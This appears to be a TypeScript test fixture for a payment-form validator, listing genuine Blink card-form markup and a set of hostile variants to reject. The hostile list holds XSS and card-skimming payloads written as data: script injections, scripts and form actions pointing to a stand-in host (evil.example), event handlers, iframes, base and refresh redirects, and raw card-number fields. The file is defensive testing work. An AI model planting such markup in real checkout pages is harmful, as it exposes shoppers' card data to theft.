const HIDDEN = ['merchantID', 'payment_intent', 'resource', 'transaction_unique']
  .map((name) => `<input type="hidden" class="blink-form__input--${name}" name="${name}" value="x">`)
  .join('\n');
const DEVICE = [
  'device_timezone',
  'device_capabilities',
  'device_accept_language',
  'device_screen_resolution',
  'remote_address',
]
  .map(
    (name) =>
      `<input type="hidden" class="blink-form__input--device-params" id="${name}" name="${name}" value="">`,
  )
  .join('\n');
const TYPE = '<input type="hidden" id="type" name="type" class="blink-form__input--type" value="1">';
const HOSTED = `
<input type="hostedfield:cardNumber" class="blink-form__input--card-number" placeholder="1234 1234 1234 1234">
<input type="hostedfield:cardExpiryDate" class="blink-form__input--card-expiry" placeholder="MM/YY">
<input type="hostedfield:cardCVV" class="blink-form__input--card-cvv" placeholder="CVV">`;
const PAYER = `<label for="cc_customer_name">Name</label><input type="text" name="customer_name" id="cc_customer_name" value="">
<label>Email</label><input type="text" name="customer_email" id="cc_customer_email" value="">`;
const ADDRESS = `<div class="fieldgroup-child--width-8"><input type="text" name="customer_address" id="cc_customer_address"></div>
<div class="fieldgroup-child--width-4"><input type="text" name="customer_postcode" id="cc_customer_postcode"></div>`;
const ICONS = ['VC', 'MC', 'DC', 'DN', 'AM']
  .map((card) => `<img src=https://secure.blinkpayment.co.uk/assets/images/cards/34/${card}.png>`)
  .join('');

const NAME_EMAIL = ['customer_name', 'customer_email'];
const WHOLE = `${HIDDEN}${HOSTED}${PAYER}${DEVICE}${TYPE}`;
const but = (search: string, replacement: string): string => WHOLE.replace(search, replacement);

export const GENUINE_CC_ELEMENTS: readonly (readonly [
  name: string,
  markup: string,
  texts: readonly string[],
])[] = [
  [
    '2024, single line',
    `${HIDDEN}<label class="blink-form__label field-label">Card information</label><div class="blink-form__group fieldgroup-container relative no-wrap mb-4">${HOSTED}</div>${PAYER}${DEVICE}${TYPE}`,
    NAME_EMAIL,
  ],
  [
    '2024, with an address',
    `${HIDDEN}${HOSTED}${PAYER}<div>${ADDRESS}</div>${DEVICE}${TYPE}`,
    [...NAME_EMAIL, 'customer_address', 'customer_postcode'],
  ],
  [
    'multi line, with card icons',
    `${HIDDEN}<div class="fieldgroup-child--width-12 relative">${HOSTED}<div class="cards_icons d-flex-center">${ICONS}</div></div>${PAYER}${DEVICE}${TYPE}`,
    NAME_EMAIL,
  ],
  [
    '2023, bare inputs',
    `<input type=hidden name=merchantID value=1><br><input type=hostedfield:cardNumber><br><input type=hostedfield:cardExpiryDate><br><input type=hostedfield:cardCVV><br><input name=customer_name><br><input name=customer_email>`,
    NAME_EMAIL,
  ],
  [
    '2023, an end tag’s bracket missing',
    `${HOSTED}${PAYER}${DEVICE}\ninput type="hidden" name="type" value="1">`,
    NAME_EMAIL,
  ],
  [
    'another order',
    `${TYPE}${PAYER}<input type="hostedfield:cardCVV"><input type="hostedfield:cardNumber"><input type="hostedfield:cardExpiryDate">`,
    NAME_EMAIL,
  ],
  [
    'types in small letters',
    WHOLE.replace(/cardNumber|cardExpiryDate|cardCVV/g, (type) => type.toLowerCase()),
    NAME_EMAIL,
  ],
  [
    'an e-mail field of its own type',
    but('type="text" name="customer_email"', 'type="email" name="customer_email"'),
    NAME_EMAIL,
  ],
  [
    'a hidden field of next year',
    `${WHOLE}<input type="hidden" name="device_ip_address" value="">`,
    NAME_EMAIL,
  ],
  ['no payer at all', `${HIDDEN}${HOSTED}${DEVICE}`, []],
];

export const HOSTILE_CC_ELEMENTS: readonly (readonly [name: string, markup: unknown])[] = [
  ['nothing', ''],
  ['no text', { html: WHOLE }],
  ['plain text', 'Card payments are off'],
  ['a script', `${WHOLE}<script>steal()</script>`],
  ['a script from elsewhere', `${WHOLE}<script src="//evil.example/x.js"></script>`],
  ['a form', `<form action="https://evil.example/">${WHOLE}</form>`],
  ['a handler', but('<label', '<label onmouseover="steal()"')],
  ['a handler on an image', `${WHOLE}<img src=x onerror=steal()>`],
  [
    'a handler on a hosted field',
    but('type="hostedfield:cardCVV"', 'type="hostedfield:cardCVV" onfocus="steal()"'),
  ],
  ['a field that asks for the card number itself', `${WHOLE}<input type="text" name="card_number">`],
  [
    'a card number in place of the hosted field',
    but('type="hostedfield:cardNumber"', 'type="text" name="cardNumber"'),
  ],
  [
    'a telephone field that asks for the number',
    `${WHOLE}<input type="tel" name="pan" autocomplete="cc-number">`,
  ],
  ['a password field', `${WHOLE}<input type="password" name="customer_name">`],
  ['a text field without a name', `${WHOLE}<input type="text" placeholder="Card number">`],
  ['a field of an unknown type, which is a text field', `${WHOLE}<input type="cardnumber" name="cc">`],
  ['one name twice', `${WHOLE}<input type="text" name="customer_name">`],
  ['a text area', `${WHOLE}<textarea name="card_number"></textarea>`],
  ['a choice', `${WHOLE}<select name="month"><option>1</option></select>`],
  ['a button', `${WHOLE}<button formaction="https://evil.example">Pay</button>`],
  ['a submit input', `${WHOLE}<input type="submit" formaction="https://evil.example">`],
  ['an editable paragraph in a frame', `${WHOLE}<iframe src="https://evil.example"></iframe>`],
  ['an object', `${WHOLE}<object data="x"></object>`],
  ['a drawing', `${WHOLE}<svg><script>1</script></svg>`],
  ['a style', `${WHOLE}<style>*{display:none}</style>`],
  ['a base', `<base href="https://evil.example">${WHOLE}`],
  ['a refresh', `<meta http-equiv=refresh content="0;url=//evil.example">${WHOLE}`],
  ['a template', `${WHOLE}<template>x</template>`],
  ['no card number', but('<input type="hostedfield:cardNumber"', '<input type="hidden"')],
  ['no CVV', but('<input type="hostedfield:cardCVV"', '<input type="hidden"')],
  ['a hosted field twice', `${WHOLE}<input type="hostedfield:cardCVV">`],
  ['one hosted field in place of another', but('hostedfield:cardCVV', 'hostedfield:cardNumber')],
  ['a hosted field nobody knows', `${WHOLE}<input type="hostedfield:cardPin">`],
  ['more than any element holds', `${WHOLE}${' '.repeat(64 * 1024)}`],
  ['more tags than any element has', `${WHOLE}${'<br>'.repeat(1_001)}`],
];
